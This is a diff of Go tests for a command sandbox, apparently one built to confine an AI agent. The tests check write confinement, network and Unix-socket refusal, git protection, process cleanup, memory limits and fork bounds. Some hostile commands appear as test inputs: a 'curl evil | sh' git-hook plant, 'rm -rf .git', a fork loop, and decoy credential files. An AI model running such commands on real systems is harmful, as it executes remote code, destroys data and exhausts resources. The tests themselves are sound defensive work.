@@ -4,7 +4,6 @@ package sandbox
 
 import (
 	"bytes"
-	"context"
 	"errors"
 	"fmt"
 	"net"
@@ -13,6 +12,7 @@ import (
 	"path/filepath"
 	"strconv"
 	"strings"
+	"sync/atomic"
 	"testing"
 	"time"
 
@@ -22,92 +22,16 @@ import (
 
 func TestMain(m *testing.M) {
 	Main() // this test binary is also the launcher
-	os.Exit(m.Run())
-}
-
-// box is a sandbox on a temporary workspace, with one session's scratch.
-type box struct {
-	t  *testing.T
-	s  *Sandbox
-	ws string
-	sc *Scratch
-}
-
-func newBox(t *testing.T, cfg Config) *box {
-	t.Helper()
-	if cfg.Workspace == "" {
-		cfg.Workspace = t.TempDir()
+	code := m.Run()
+	// Every command's memory cgroup is gone with it.
+	if mcg, err := findMemcg(); err == nil {
+		left, _ := filepath.Glob(filepath.Join(mcg.dir, fmt.Sprintf("%s%d-*", cgroupPrefix, os.Getpid())))
+		if len(left) > 0 {
+			fmt.Fprintln(os.Stderr, "memory cgroups left behind:", left)
+			code = 1
+		}
 	}
-	if cfg.Env == nil {
-		cfg.Env = []string{"PATH=" + os.Getenv("PATH"), "HOME=" + cfg.Home}
-	}
-	s, err := New(cfg)
-	require.NoError(t, err)
-	t.Cleanup(func() { s.Close() })
-	sc, err := s.NewScratch()
-	require.NoError(t, err)
-	ws, err := filepath.EvalSymlinks(cfg.Workspace)
-	require.NoError(t, err)
-	return &box{t: t, s: s, ws: ws, sc: sc}
-}
-
-// run runs command in the workspace and returns its output and exit.
-func (b *box) run(command string) (string, Exit) {
-	b.t.Helper()
-	ctx, cancel := context.WithTimeout(b.t.Context(), 30*time.Second)
-	defer cancel()
-	return b.runCtx(ctx, command)
-}
-
-func (b *box) runCtx(ctx context.Context, command string) (string, Exit) {
-	b.t.Helper()
-	var out bytes.Buffer
-	c, err := b.s.Start(ctx, Spec{Command: command, Dir: b.ws, Scratch: b.sc, Output: &out})
-	require.NoError(b.t, err)
-	exit, err := c.Wait()
-	require.NoError(b.t, err, "output: %s", out.String())
-	return out.String(), exit
-}
-
-// ok runs command and requires it to succeed.
-func (b *box) ok(command string) string {
-	b.t.Helper()
-	out, exit := b.run(command)
-	require.Equal(b.t, 0, exit.Code, "%s\n%s", command, out)
-	return out
-}
-
-// fails runs command and requires it to fail.
-func (b *box) fails(command string) string {
-	b.t.Helper()
-	out, exit := b.run(command)
-	require.NotEqual(b.t, 0, exit.Code, "%s should fail, but printed:\n%s", command, out)
-	return out
-}
-
-// fakeHome makes a home directory with secrets, outside the system
-// temporary directory (which commands cannot read at all).
-func fakeHome(t *testing.T) string {
-	t.Helper()
-	base, err := os.UserCacheDir()
-	require.NoError(t, err)
-	require.NoError(t, os.MkdirAll(base, 0o755))
-	home, err := os.MkdirTemp(base, "agentbox-test-home-")
-	require.NoError(t, err)
-	t.Cleanup(func() { os.RemoveAll(home) })
-	for name, content := range map[string]string{
-		".ssh/id_ed25519":  "PRIVATE KEY",
-		".aws/credentials": "AWS SECRET",
-		".netrc":           "machine x password NETRC",
-		".config/gh/hosts": "oauth_token: GHTOKEN",
-		"notes.txt":        "visible notes",
-		"tools/bin/hello":  "#!/bin/sh\necho hello from a toolchain\n",
-	} {
-		p := filepath.Join(home, name)
-		require.NoError(t, os.MkdirAll(filepath.Dir(p), 0o755))
-		require.NoError(t, os.WriteFile(p, []byte(content), 0o755))
-	}
-	return home
+	os.Exit(code)
 }
 
 func TestWritesStayInside(t *testing.T) {
@@ -147,22 +71,7 @@ func TestWritesStayInside(t *testing.T) {
 
 func TestNetwork(t *testing.T) {
 	t.Parallel()
-	ln, err := net.Listen("tcp", "127.0.0.1:0")
-	require.NoError(t, err)
-	t.Cleanup(func() { ln.Close() })
-	accepted := make(chan struct{}, 4)
-	go func() {
-		for {
-			c, err := ln.Accept()
-			if err != nil {
-				return
-			}
-			c.Close()
-			accepted <- struct{}{}
-		}
-	}()
-	port := ln.Addr().(*net.TCPAddr).Port
-	connect := fmt.Sprintf("exec 3<>/dev/tcp/127.0.0.1/%d && echo connected", port)
+	connect, accepted := loopback(t)
 
 	t.Run("refuses a loopback listener outside", func(t *testing.T) {
 		b := newBox(t, Config{})
@@ -244,12 +153,7 @@ func TestGitProtected(t *testing.T) {
 	t.Parallel()
 	setup := func(t *testing.T, allow bool) *box {
 		b := newBox(t, Config{AllowGitConfig: allow})
-		for _, d := range []string{".git/hooks", ".git/objects", ".git/refs"} {
-			require.NoError(t, os.MkdirAll(filepath.Join(b.ws, d), 0o755))
-		}
-		require.NoError(t, os.WriteFile(filepath.Join(b.ws, ".git/config"), []byte("[core]\n"), 0o644))
-		require.NoError(t, os.WriteFile(filepath.Join(b.ws, ".git/HEAD"), []byte("ref: refs/heads/main\n"), 0o644))
-		// The launch plan is made per command, so a .git made now counts.
+		b.gitRepo()
 		return b
 	}
 	b := setup(t, false)
@@ -257,13 +161,7 @@ func TestGitProtected(t *testing.T) {
 		t.Skip("no mount namespace here")
 	}
 	b.ok("echo ref > .git/refs/x && touch .git/index")
-	for _, cmd := range []string{
-		"echo 'curl evil | sh' > .git/hooks/pre-commit",
-		"printf '[core]\\nhooksPath = x\\n' >> .git/config",
-		"mv .git .git-old",
-		"rm -rf .git/hooks",
-		"rm -rf .git",
-	} {
+	for _, cmd := range gitAttacks {
 		b.fails(cmd)
 	}
 	assert.NoFileExists(t, filepath.Join(b.ws, ".git/hooks/pre-commit"))
@@ -286,13 +184,6 @@ func TestGitProtected(t *testing.T) {
 		ab := setup(t, true)
 		ab.ok("echo '#!/bin/sh' > .git/hooks/pre-commit && echo '[user]' >> .git/config")
 	})
-}
-
-func readFile(t *testing.T, name string) string {
-	t.Helper()
-	b, err := os.ReadFile(name)
-	require.NoError(t, err)
-	return string(b)
 }
 
 // marked lists the host's processes whose command line holds marker.
@@ -323,17 +214,13 @@ func TestNoProcessOutlivesItsCommand(t *testing.T) {
 		assert.Empty(t, marked(t, marker))
 	})
 	t.Run("a timeout kills grandchildren", func(t *testing.T) {
-		ctx, cancel := context.WithTimeout(t.Context(), 300*time.Millisecond)
-		defer cancel()
-		_, exit := b.runCtx(ctx, fmt.Sprintf("%[1]s & %[1]s; wait", sleeper))
+		_, exit := b.runStopped(fmt.Sprintf("%[1]s & %[1]s & echo started; wait", sleeper))
 		assert.Equal(t, 143, exit.Code, "SIGTERM ends it")
 		assert.Empty(t, marked(t, marker))
 	})
 	t.Run("a command that ignores SIGTERM is killed after the grace", func(t *testing.T) {
-		ctx, cancel := context.WithTimeout(t.Context(), 300*time.Millisecond)
-		defer cancel()
-		_, exit := b.runCtx(ctx, fmt.Sprintf("trap '' TERM; exec -a %s sleep 1000", marker))
-		assert.NotEqual(t, 0, exit.Code)
+		_, exit := b.runStopped(fmt.Sprintf("trap '' TERM; echo started; exec -a %s sleep 1000", marker))
+		assert.Equal(t, 137, exit.Code)
 		assert.Empty(t, marked(t, marker))
 	})
 	t.Run("stdin is empty", func(t *testing.T) {
@@ -348,12 +235,32 @@ func TestForkBombIsBounded(t *testing.T) {
 		t.Skip("no process limit here")
 	}
 	assert.Equal(t, fmt.Sprint(DefaultMaxProcs)+"\n", b.ok("cat /proc/sys/kernel/pid_max"))
-	ctx, cancel := context.WithTimeout(t.Context(), 3*time.Second)
-	defer cancel()
-	out, exit := b.runCtx(ctx, "bomb() { bomb | bomb & }; bomb; sleep 100")
-	assert.NotEqual(t, 0, exit.Code)
+	const limit = 400 // fewer processes to start than the default, same bound
+	b = newBox(t, Config{MaxProcs: limit})
+	marker := fmt.Sprintf("agentbox-bomb-%d", time.Now().UnixNano())
+	// Forks until the kernel refuses; every child sleeps, so each one holds
+	// its place in the PID namespace.
+	out := b.ok(`/usr/bin/python3 -c '
+import os, time  # ` + marker + `
+n = 0
+while True:
+    try:
+        pid = os.fork()
+    except BlockingIOError as e:
+        print("refused after", n, e.strerror)
+        break
+    if pid == 0:
+        time.sleep(1000)
+        os._exit(0)
+    n += 1'`)
+	var n int
+	var why string
+	_, err := fmt.Sscanf(out, "refused after %d %s", &n, &why)
+	require.NoError(t, err, out)
 	assert.Contains(t, out, "Resource temporarily unavailable")
-	assert.Empty(t, marked(t, "bomb"))
+	assert.Greater(t, n, limit-50)
+	assert.Less(t, n, limit)
+	assert.Empty(t, marked(t, marker), "the children end with the command")
 }
 
 func TestSystemView(t *testing.T) {
@@ -486,7 +393,7 @@ func BenchmarkTrue(b *testing.B) {
 		if out, err := build.CombinedOutput(); err != nil {
 			b.Skipf("cannot build agentbox: %v\n%s", err, out)
 		}
-		s, err := New(Config{Workspace: ws, Home: os.Getenv("HOME"), Env: os.Environ(), Launcher: append([]string{bin}, launcherArgs...)})
+		s, err := New(Config{Workspace: ws, Home: os.Getenv("HOME"), Env: os.Environ(), Launcher: []string{bin}})
 		require.NoError(b, err)
 		defer s.Close()
 		run(b, s)
@@ -501,5 +408,225 @@ func BenchmarkTrue(b *testing.B) {
 		for b.Loop() {
 			require.NoError(b, exec.Command("bash", "-c", "true").Run())
 		}
+	})
+}
+
+func TestLandlockRights(t *testing.T) {
+	t.Parallel()
+	// Each ABI adds its rights to the last one's, and they are the kernel's
+	// bits 0 up to the newest: nothing skipped, nothing made up.
+	want := map[int]int{1: 13, 2: 14, 3: 15, 4: 15, 5: 16, 6: 16, 7: 16, 8: 16, 9: 17}
+	for abi, bits := range want {
+		assert.Equal(t, uint64(1)<<bits-1, llFS(abi), "ABI %d", abi)
+	}
+	assert.Zero(t, llFS(0))
+}
+
+// write makes the files of a tree under root: a content starting with "->"
+// makes a symbolic link to the rest.
+func write(t *testing.T, root string, files map[string]string) {
+	t.Helper()
+	for name, content := range files {
+		p := filepath.Join(root, name)
+		require.NoError(t, os.MkdirAll(filepath.Dir(p), 0o755))
+		if target, ok := strings.CutPrefix(content, "->"); ok {
+			require.NoError(t, os.Symlink(target, p))
+			continue
+		}
+		require.NoError(t, os.WriteFile(p, []byte(content), 0o755))
+	}
+}
+
+func TestToolchainsStayVisible(t *testing.T) {
+	t.Parallel()
+	home := fakeHome(t)
+	tmp := t.TempDir() // under the shared /tmp, which commands do not see
+	write(t, tmp, map[string]string{
+		"shim/python3":       "->/usr/bin/python3",
+		"env/pyvenv.cfg":     "home = " + filepath.Join(tmp, "interp/bin") + "\nversion = 3.11\n",
+		"env/bin/python3":    "->" + filepath.Join(tmp, "linked/bin/python3"),
+		"interp/bin/marker":  "interpreter home",
+		"linked/bin/python3": "#!/bin/sh\necho linked",
+		"linked/lib/marker":  "linked toolchain",
+		"wshome/bin/marker":  "workspace env home",
+	})
+	write(t, home, map[string]string{
+		".hidden/bin/hello": "#!/bin/sh\necho hello from a hidden toolchain\n",
+		".config/x/bin/sec": "#!/bin/sh\necho secret tool\n",
+	})
+	path := strings.Join([]string{
+		filepath.Join(tmp, "shim"), filepath.Join(home, ".hidden/bin"),
+		filepath.Join(home, ".config/x/bin"), os.Getenv("PATH"),
+	}, ":")
+	for _, reads := range []Reads{ReadSystem, ReadStrict} {
+		t.Run(reads.String(), func(t *testing.T) {
+			var log syncLog
+			b := newBox(t, Config{Home: home, Reads: reads, Logger: log.logger(), Env: []string{
+				"PATH=" + path, "HOME=" + home, "VIRTUAL_ENV=" + filepath.Join(tmp, "env"),
+			}})
+			write(t, b.ws, map[string]string{".venv/pyvenv.cfg": "home = " + filepath.Join(tmp, "wshome/bin") + "\n"})
+
+			assert.Equal(t, filepath.Join(tmp, "shim/python3")+"\n", b.ok("which python3"))
+			assert.Equal(t, "3\n", b.ok("python3 -c 'import sys; print(sys.version_info[0])'"))
+			assert.Equal(t, "hello from a hidden toolchain\n", b.ok("hello"))
+			for _, marker := range []string{"interp/bin/marker", "linked/lib/marker", "wshome/bin/marker"} {
+				b.ok("cat " + filepath.Join(tmp, marker))
+			}
+			assert.Equal(t, "linked\n", b.ok(filepath.Join(tmp, "env/bin/python3")))
+			b.fails("echo x > " + filepath.Join(tmp, "shim/planted"))
+
+			b.fails("sec")
+			assert.Contains(t, log.String(), "PATH directories hidden from commands")
+			assert.Contains(t, log.String(), filepath.Join(home, ".config/x/bin"))
+			assert.Equal(t, 1, strings.Count(log.String(), "PATH directories hidden"))
+		})
+	}
+}
+
+func TestMemoryLimit(t *testing.T) {
+	t.Parallel()
+	// Python writes every byte of the string, so its pages are really used.
+	hog := `/usr/bin/python3 -c 'b = "x" * (400 << 20); print("al" + "located")'`
+	small := `/usr/bin/python3 -c 'b = "x" * (20 << 20); print("al" + "located")'`
+	b := newBox(t, Config{MemoryLimit: 128 << 20})
+	facts := b.s.Facts()
+	assert.Equal(t, Memory(128<<20), facts.MemoryLimit)
+	assert.Contains(t, strings.Join(b.s.Layers(), "; "), "memory: at most 128 MiB")
+	assert.Equal(t, "allocated\n", b.ok(small))
+	assert.Equal(t, "1000\n", b.ok("cat /proc/self/oom_score_adj"), "the OOM killer picks commands first")
+	own, err := os.ReadFile("/proc/self/oom_score_adj")
+	require.NoError(t, err)
+	assert.NotEqual(t, "1000\n", string(own), "and not the server")
+
+	t.Run("a command past the limit is killed and reported", func(t *testing.T) {
+		if facts.MemoryPerProcess {
+			t.Skipf("no memory cgroup here: %v", b.s.Layers())
+		}
+		out, exit := b.run(hog)
+		assert.NotContains(t, out, "allocated")
+		assert.Equal(t, 137, exit.Code, out)
+		assert.True(t, exit.OutOfMemory)
+		assert.Equal(t, Memory(128<<20), exit.MemoryLimit)
+		assert.Contains(t, exit.Note(), "Killed for memory")
+		assert.Contains(t, exit.Note(), "128 MiB")
+		// The sandbox goes on.
+		assert.Equal(t, "allocated\n", b.ok(small))
+		_, exit = b.run("exit 3")
+		assert.False(t, exit.OutOfMemory)
+		assert.Empty(t, exit.Note())
+	})
+	t.Run("without a memory cgroup each process is bounded", func(t *testing.T) {
+		rb := newBox(t, Config{MemoryLimit: 128 << 20})
+		rb.s.os.memcg = nil // as where no cgroup can be had
+		out, exit := rb.run(hog)
+		assert.NotContains(t, out, "allocated")
+		assert.Contains(t, out, "MemoryError")
+		assert.Equal(t, 1, exit.Code)
+		assert.Equal(t, "allocated\n", rb.ok(small))
+		assert.Equal(t, "131072\n", rb.ok("ulimit -d"))
+	})
+	t.Run("off", func(t *testing.T) {
+		ob := newBox(t, Config{MemoryLimit: MemoryOff})
+		assert.Zero(t, ob.s.Facts().MemoryLimit)
+		assert.Equal(t, "unlimited\n", ob.ok("ulimit -d"))
+	})
+}
+
+func TestMemoryText(t *testing.T) {
+	t.Parallel()
+	for in, want := range map[string]Memory{
+		"4GiB": 4 << 30, "4G": 4 << 30, "4gb": 4 << 30, "512MiB": 512 << 20, "512m": 512 << 20,
+		"1.5GiB": 3 << 29, "1TiB": 1 << 40, "65536K": 64 << 20, "134217728": 128 << 20,
+		"auto": 0, "": 0, "off": MemoryOff,
+	} {
+		var m Memory
+		require.NoError(t, m.UnmarshalText([]byte(in)), in)
+		assert.Equal(t, want, m, in)
+	}
+	for _, in := range []string{"lots", "-1G", "0", "1M", "4X", "GiB", "9999999999T"} {
+		var m Memory
+		assert.Error(t, m.UnmarshalText([]byte(in)), in)
+	}
+	assert.Equal(t, "1.5 GiB", Memory(3<<29).String())
+	assert.Equal(t, "128 MiB", Memory(128<<20).String())
+	text, err := Memory(4 << 30).MarshalText()
+	require.NoError(t, err)
+	assert.Equal(t, "4GiB", string(text))
+}
+
+// listenUnix serves "hello" on a Unix socket at path and counts the
+// connections it accepts.
+func listenUnix(t *testing.T, path string) *atomic.Int32 {
+	t.Helper()
+	ln, err := net.Listen("unix", path)
+	require.NoError(t, err)
+	t.Cleanup(func() { ln.Close() })
+	var n atomic.Int32
+	go func() {
+		for {
+			c, err := ln.Accept()
+			if err != nil {
+				return
+			}
+			n.Add(1)
+			c.Write([]byte("hello"))
+			c.Close()
+		}
+	}()
+	return &n
+}
+
+// connectUnix is a command that connects to the Unix socket at path and
+// prints what it reads.
+func connectUnix(path string) string {
+	return fmt.Sprintf(`/usr/bin/python3 -c 'import socket, sys; s = socket.socket(socket.AF_UNIX); s.connect(sys.argv[1]); print(s.recv(5).decode())' %q`, path)
+}
+
+func TestUnixSockets(t *testing.T) {
+	t.Parallel()
+	home := fakeHome(t) // not among the hidden places
+	outside := filepath.Join(home, "daemon.sock")
+	accepted := listenUnix(t, outside)
+	b := newBox(t, Config{Home: home})
+	if !b.s.Facts().UnixSockets {
+		t.Skipf("Unix sockets are not confined here: %v", b.s.Missing())
+	}
+	require.NoError(t, os.Symlink(outside, filepath.Join(b.ws, "link.sock")))
+
+	t.Run("refuses a socket outside", func(t *testing.T) {
+		for _, path := range []string{outside, "link.sock", "../" + filepath.Base(b.ws) + "/link.sock"} {
+			out := b.fails(connectUnix(path))
+			assert.Contains(t, out, "PermissionError", path)
+			assert.NotContains(t, out, "hello", path)
+		}
+		out := b.fails(fmt.Sprintf(`cd %q && /usr/bin/python3 -c 'import socket; s = socket.socket(socket.AF_UNIX); s.connect("daemon.sock")'`, home))
+		assert.Contains(t, out, "PermissionError")
+		assert.Zero(t, accepted.Load(), "the listener saw no connection")
+	})
+	t.Run("serves sockets in the workspace and TMPDIR", func(t *testing.T) {
+		for _, dir := range []string{".", "$TMPDIR"} {
+			assert.Equal(t, "inside\n", b.ok(`cd `+dir+` && /usr/bin/python3 -c '
+import socket
+srv = socket.socket(socket.AF_UNIX); srv.bind("in.sock"); srv.listen(1)
+c = socket.socket(socket.AF_UNIX); c.connect("in.sock")
+a, _ = srv.accept(); a.sendall(b"inside"); print(c.recv(6).decode())' && rm in.sock`), dir)
+		}
+		assert.Equal(t, "pair\n", b.ok(`/usr/bin/python3 -c '
+import socket
+a, b = socket.socketpair(); a.sendall(b"pair"); print(b.recv(4).decode())'`))
+	})
+	t.Run("refuses datagram sockets, which send by path", func(t *testing.T) {
+		assert.Contains(t, b.fails(`/usr/bin/python3 -c 'import socket; socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)'`), "PermissionError")
+	})
+	t.Run("connects to a socket allowed by name", func(t *testing.T) {
+		ab := newBox(t, Config{Home: home, AllowUnixSocket: []string{outside}})
+		assert.Equal(t, "hello\n", ab.ok(connectUnix(outside)))
+		require.NoError(t, os.Symlink(outside, filepath.Join(ab.ws, "link.sock")))
+		assert.Equal(t, "hello\n", ab.ok(connectUnix("link.sock")))
+		assert.Equal(t, int32(2), accepted.Swap(0))
+	})
+	t.Run("connects anywhere with the network allowed", func(t *testing.T) {
+		nb := newBox(t, Config{Home: home, AllowNetwork: true})
+		assert.Equal(t, "hello\n", nb.ok(connectUnix(outside)))
 	})
 }
